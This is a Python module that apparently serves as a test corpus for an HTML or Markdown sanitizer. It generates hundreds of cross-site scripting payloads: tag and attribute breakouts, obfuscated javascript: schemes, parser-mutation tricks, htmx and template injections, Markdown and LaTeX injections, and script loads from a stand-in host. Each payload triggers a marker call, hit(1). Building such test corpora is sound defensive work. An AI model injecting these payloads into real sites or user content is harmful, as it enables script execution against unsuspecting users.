"""Words that would run in a careless page: families of tricks, each bent in several ways. Every one calls `hit(…)`."""

from collections.abc import Iterator
from itertools import product

CALL = "hit(1)"
SLEEPY = ("svg", "body", "iframe", "img", "video", "audio", "details", "input", "math", "object", "marquee", "x")
STARTS = {
    "svg": "onload", "body": "onload", "iframe": "onload", "img": "onerror", "video": "onloadstart",
    "audio": "onerror", "details": "ontoggle", "input": "onfocus", "math": "onclick", "object": "onerror",
    "marquee": "onstart", "x": "onanimationstart",
}  # fmt: skip
MORE = "src=/nowhere.png data=/nowhere autofocus open tabindex=0 contenteditable"
WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "]]>", "`>", "</details>", "{{")
SCHEMES = (
    "javascript:hit(1)", "JaVaScRiPt:hit(1)", "java\tscript:hit(1)", "java\nscript:hit(1)", " javascript:hit(1)",
    "\x01javascript:hit(1)", "javascript&colon;hit(1)", "&#106;avascript:hit(1)", "&#x6A;avascript:hit(1)",
    "javascript://%0ahit(1)", "vbscript:hit(1)", "data:text/html,<script>parent.hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDEpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=hit(1)>",
    "//elsewhere.example/x.js", "https:javascript:hit(1)", "javascript:/*--></title>*/hit(1)", "feed:javascript:hit(1)",
    "blob:hit(1)", "view-source:javascript:hit(1)", "jav&#x09;ascript:hit(1)", "javascript\x00:hit(1)",
)  # fmt: skip
LINKS = (
    "[a]({})", "[a](<{}>)", "![a]({})", "[a]: {}\n\n[a]", "<{}>", '<a href="{}">a</a>', "[![a]({})]({})",
    '<form action="{}"><button>a</button></form>', '<iframe src="{}"></iframe>', '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text>a</text></a></svg>', '<math href="{}">a</math>', '<button formaction="{}">a</button>',
    '<meta http-equiv=refresh content="0;url={}">', '<base href="{}">', '<link rel=stylesheet href="{}">',
    '<img src="{}">', '<img srcset="{}">', '<blockquote cite="{}">a</blockquote>', '<embed src="{}">',
    '<area href="{}">', '<use href="{}"/>', '<image xlink:href="{}"/>', '<table background="{}">',
)  # fmt: skip
STYLES = (
    "<style>@import '//elsewhere.example/x.css';</style>", "<p style=\"background:url('javascript:hit(1)')\">a</p>",
    "<p style='animation:x' onanimationstart=hit(1)>a</p>", "<div style=width:expression(hit(1))>a</div>",
    "<style>*{behavior:url(#x)}</style><p>a", "<p style='-moz-binding:url(x)'>a</p>", "<style><img src=x onerror=hit(1)>",
)  # fmt: skip
MUTANTS = (
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'>", "<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>",
    "<svg><style><img src=x onerror=hit(1)></style></svg>", "<svg></p><style><a id='</style><img src=1 onerror=hit(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>", "<!--><img src=x onerror=hit(1)>-->",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=hit(1)>", "<![CDATA[<img src=x onerror=hit(1)>]]>",
    "<select><template><img src=x onerror=hit(1)></template></select>", "<xmp><p title='</xmp><img src=x onerror=hit(1)>'>",
    "<svg><script>hit(1)</script></svg>", "<svg><set attributeName=onload to=hit(1)>", "<a><svg><desc><script>hit(1)</script>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>", "<svg><foreignObject><iframe onload=hit(1)>", "<<img src=x onerror=hit(1)>>",
    "<img src=x onerror=hit(1)//", "<img/src=x/onerror=hit(1)>", "<img\nsrc=x\nonerror=hit(1)>", "<img src=x onerror\n=\nhit(1)>",
    "<IMG SRC=x ONERROR=hit(1)>", "<img src=`x`onerror=hit(1)>", "<img src='x'onerror='hit(1)'>", "<im\x00g src=x onerror=hit(1)>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>", "<script\x20>hit(1)</script\x20>", "<script/x>hit(1)</script>", "<script>hit(1)",
    "<script src=//elsewhere.example/x.js></script>", "<script src=data:,hit(1)></script>", "<script type=module>hit(1)</script>",
    "<template><script>hit(1)</script></template>", "<textarea></textarea><script>hit(1)</script>", "<title><script>hit(1)</script>",
    "\uff1cscript\uff1ehit(1)\uff1c/script\uff1e", "\u202e<script>hit(1)</script>", "%3Cscript%3Ehit(1)%3C/script%3E", "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hit(1)", "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e", "\\x3cscript\\x3ehit(1)", "+ADw-script+AD4-hit(1)",
)  # fmt: skip
FRAMES = (
    "<p hx-get=/settings/ hx-trigger=load hx-on:htmx:load=hit(1)>a</p>", "<p hx-on::load='hit(1)'>a</p>", "<p data-hx-on:click=hit(1)>a</p>",
    "<div hx-vals='js:{a:hit(1)}' hx-post=/ hx-trigger=load>a</div>", "<p x-init=hit(1) x-data>a</p>", "<p _='on load call hit(1)'>a</p>",
    "{{constructor.constructor('hit(1)')()}}", "${hit(1)}", "#{hit(1)}", "{% include 'x' %}{{ hit }}", "<%= hit(1) %>", "`${hit(1)}`",
    "<a id=htmx-config content='{\"allowEval\":true}'>a</a>", "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<a name=body id=getElementById>a</a>", "<form id=document><input name=cookie></form>", "<img name=currentScript>",
    "<p popover id=you>a</p>", "<dialog open><button autofocus onfocus=hit(1)>a</button></dialog>", "<slot name=x onslotchange=hit(1)>",
)  # fmt: skip
MARKDOWN = (
    "```<script>hit(1)</script>\na\n```", "```html\n<script>hit(1)</script>\n```", "    <script>hit(1)</script>", "`<script>hit(1)</script>`",
    "$\\text{<img src=x onerror=hit(1)>}$", "$\\href{javascript:hit(1)}{a}$", "$$\\mbox{<script>hit(1)</script>}$$",
    "$\\style{background:url(x)}{a}$", '$\\class{x" onmouseover="hit(1)}{a}$', "$</math><script>hit(1)</script>$",
    "[^1]\n\n[^1]: <img src=x onerror=hit(1)>", "[a](x 'onclick=hit(1)')", '[a](x "><script>hit(1)</script>")',
    '![" onerror="hit(1)](x)', '![a](/x.png"onerror="hit(1))', '[a" onmouseover="hit(1)](https://x.example)',
    '<https://x.example/"onmouseover=hit(1)>', "https://x.example/'onmouseover='hit(1)", "https://x.example/<script>hit(1)</script>",
    "| <script>hit(1)</script> |\n|---|\n| <img src=x onerror=hit(1)> |", "# <svg onload=hit(1)>", "> <svg onload=hit(1)>",
    "- <svg onload=hit(1)>", "a\n: <svg onload=hit(1)>", "**<svg onload=hit(1)>**", "~~<svg onload=hit(1)>~~", "@<script>hit(1)</script>",
    '@fay"onmouseover=hit(1)', "[[a]](javascript:hit(1))", "![a][b]\n\n[b]: javascript:hit(1)", "[a](data:text/html,<script>hit(1)</script>)",
    "[a](\\javascript:hit(1))", "[a](javascript&#58;hit(1))", "[a](&#1;javascript:hit(1))", "[a](javascript:hit%281%29)", "<!-- <script>hit(1)</script> -->",
)  # fmt: skip


def _families() -> Iterator[str]:
    for way, tag in product(WAYS_OUT, SLEEPY):
        yield f"{way}<{tag} {MORE} {STARTS[tag]}={CALL}>"
    for way in WAYS_OUT:
        yield f"{way}<script>{CALL}</script>"
        yield f"{way} onmouseover={CALL} autofocus onfocus={CALL} x="
        yield f'{way}" onfocus="{CALL}" autofocus="'
        yield f"{way}' onfocus='{CALL}' autofocus='"
    for number, link in enumerate(LINKS):
        for scheme in SCHEMES[number % 3 :: 3]:
            yield link.replace("{}", scheme)
    yield from (*STYLES, *MUTANTS, *FRAMES, *MARKDOWN)


PAYLOADS = tuple(dict.fromkeys(_families()))
FILE_NAMES = tuple(
    payload.replace("\0", "")[:100] + ending
    for payload, ending in zip(PAYLOADS, (".pdf", ".txt") * len(PAYLOADS), strict=False)
)
